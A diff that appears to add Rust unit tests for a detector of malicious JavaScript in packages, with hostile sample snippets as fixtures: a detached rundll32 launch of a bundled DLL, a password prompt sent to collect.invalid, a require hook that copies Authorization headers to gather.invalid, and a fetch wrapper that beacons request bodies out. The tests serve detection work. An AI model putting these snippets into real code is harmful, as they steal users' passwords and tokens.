@@ -1553,3 +1553,131 @@ fn deleting_the_project_the_program_runs_in() {
     let clean = "const { exec } = require('child_process');\nfunction clean() {\n  exec(`rm -rf \"${process.cwd()}/dist\"`);\n}\nmodule.exports = clean;\n";
     assert!(!has(clean, K::Destruction), "{:?}", facts(clean));
 }
+
+#[test]
+fn shipped_library_loaded_by_rundll32() {
+    let src = r#"
+const cp = require('child_process');
+const path = require('path');
+const dll = path.join(__dirname, 'vendor', 'native-helper.dll');
+cp.spawn('rundll32.exe', [dll + ',Entry'], { detached: true, stdio: 'ignore' }).unref();
+"#;
+    assert!(kinds(src).contains(&K::DownloadExecute), "{:?}", facts(src));
+    let system = "require('child_process').execSync('rundll32 user32.dll,LockWorkStation');";
+    assert!(
+        !kinds(system).contains(&K::DownloadExecute),
+        "{:?}",
+        facts(system)
+    );
+}
+
+#[test]
+fn a_prompts_answer_runs_with_the_program() {
+    // A command that asks for a password and sends it with the user's name: the answer's
+    // callback runs as surely as the program does.
+    let src = r#"
+const readline = require('readline');
+const https = require('https');
+const os = require('os');
+const ask = readline.createInterface({ input: process.stdin, output: process.stdout });
+ask.question('Password: ', (answer) => {
+  const r = https.request('https://collect.invalid/p', { method: 'POST' });
+  r.end(JSON.stringify({ who: os.userInfo().username, host: os.hostname(), answer }));
+});
+"#;
+    assert!(
+        facts(src)
+            .iter()
+            .any(|(k, top, _)| *k == K::SecretExfiltration && *top),
+        "{:?}",
+        facts(src)
+    );
+}
+
+#[test]
+fn request_interceptors_and_loader_hooks_that_copy_credentials() {
+    // The module loader replaced; the client it hands out gets an interceptor that posts
+    // every Authorization header to another host.
+    let hooked = r#"
+const Module = require('module');
+const http = require('http');
+function report(what) {
+  const req = http.request({ host: 'gather.invalid', method: 'PUT', path: '/h' });
+  req.end(JSON.stringify(what));
+}
+const load = Module.prototype.require;
+Module.prototype.require = function (name) {
+  const lib = load.apply(this, arguments);
+  if (name === 'got-like' && lib.interceptors) {
+    lib.interceptors.request.use(function (cfg) {
+      report({ to: cfg.url, token: cfg.headers.Authorization });
+      return cfg;
+    });
+  }
+  return lib;
+};
+"#;
+    // The header handed to the file's sender, where the module's code runs; the
+    // package joins the two (a secret exfiltration at import time).
+    let f = javascript::analyze(hooked, "index.js");
+    assert!(!f.param_sends.is_empty(), "{:?}", f.param_sends);
+    assert!(
+        f.secret_calls
+            .iter()
+            .any(|c| c.callee == "report" && c.top_level),
+        "{:?}",
+        f.secret_calls
+    );
+    // An interceptor that adds the application's own token: nothing is sent elsewhere.
+    let adds = r#"
+const axios = require('axios');
+const api = axios.create({ baseURL: 'https://api.invalid' });
+api.interceptors.request.use((config) => {
+  config.headers.Authorization = 'Bearer ' + process.env.API_TOKEN;
+  console.debug('request', config.method, config.url, config.headers);
+  return config;
+});
+module.exports = api;
+"#;
+    assert!(
+        !kinds(adds).contains(&K::SecretExfiltration),
+        "{:?}",
+        facts(adds)
+    );
+}
+
+#[test]
+fn hooked_fetch_handing_bodies_to_a_beaconing_helper() {
+    // The wrapper hands what the page sends to a helper of the file that beacons it.
+    let src = r#"
+var collector = 'https://stats.invalid/e';
+function post(where, payload) {
+  navigator.sendBeacon(collector, JSON.stringify({ where: where, payload: String(payload) }));
+}
+var realFetch = window.fetch;
+window.fetch = function (resource, options) {
+  if (options && options.body) post(String(resource), options.body);
+  return realFetch.apply(this, arguments);
+};
+"#;
+    let f = facts(src);
+    assert!(
+        f.iter()
+            .any(|(k, _, d)| *k == K::BrowserHijack && d.contains("request skimming")),
+        "{f:?}"
+    );
+    // Monitoring: the wrapper times requests and beacons durations it measured itself.
+    let timing = r#"
+function post(ms) { navigator.sendBeacon('/rum', JSON.stringify({ ms: ms })); }
+var realFetch = window.fetch;
+window.fetch = function (resource, options) {
+  var t0 = performance.now();
+  return realFetch.apply(this, arguments).then(function (r) { post(performance.now() - t0); return r; });
+};
+"#;
+    assert!(
+        !kinds(timing).contains(&K::BrowserHijack),
+        "{:?}",
+        facts(timing)
+    );
+}
